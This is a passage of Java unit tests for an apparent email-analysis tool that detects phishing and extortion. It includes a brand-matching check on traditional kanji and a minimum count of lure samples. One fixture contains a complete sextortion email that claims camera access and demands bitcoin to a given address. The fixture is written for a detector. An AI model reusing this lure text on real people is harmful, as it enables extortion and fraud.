  void extortionNeedsTwoOfItsPhrasesOrBitcoinAndReachesAShareExplainedWithoutTheBank() {
    // a news item that mentions adult websites once is none
    MailReport news =
        JapaneseMail.utf8()
            .auth("example-news.com", "pass")
            .from("Example News", "news@example-news.com")
            .to("k.sato@" + ORG)
            .subject("Regulators fine operator of adult websites")
            .text("The regulator fined the operator of several adult websites on Monday.")
            .analyze();
    assertThat(MailSignsTest.flags(news)).doesNotContain(RedFlag.EXTORTION);
    MailReport r =
        JapaneseMail.utf8()
            .from(null, "soumu@sakura-bank.co.jp")
            .to("soumu@sakura-bank.co.jp")
            .subject("Your device was hacked")
            .text(
                "I have gained access to your device and recorded you through your camera. Send"
                    + " $1200 in bitcoin to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq or the"
                    + " video will be sent to all your contacts.")
            .analyze();
    List<RedFlag> expected = List.of(RedFlag.EXTORTION);
    assertThat(MailSignsTest.flags(r)).containsAll(expected);
    assertThat(r.verdict()).isNotEqualTo(MailReport.Verdict.CLEAN);
    assertThat(MailStixTest.explainsWithoutTheBank(r, expected).path("content").asString())
        .contains("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq");
  }

  @Test
  void traditionalKanjiFormsAreReadAsTheJapaneseOnes() {
    assertThat(MailText.fold("稅務署からの滯納のお知らせ、關稅")).isEqualTo("税務署からの滞納のお知らせ、関税");
    assertThat(MailText.fold("ＵＲＬ 稅")).isEqualTo("URL 税");
    String plain = "税務署 普通の文章";
    assertThat(MailText.fold(plain)).isSameAs(plain);
    assertThat(MailSigns.claimed("稅務署")).extracting(MailBrands.Brand::name).contains("国税庁");
  }

  @Test
  void atLeastThirtyLures() {
    assertThat(lures()).hasSizeGreaterThanOrEqualTo(30);
  }
}
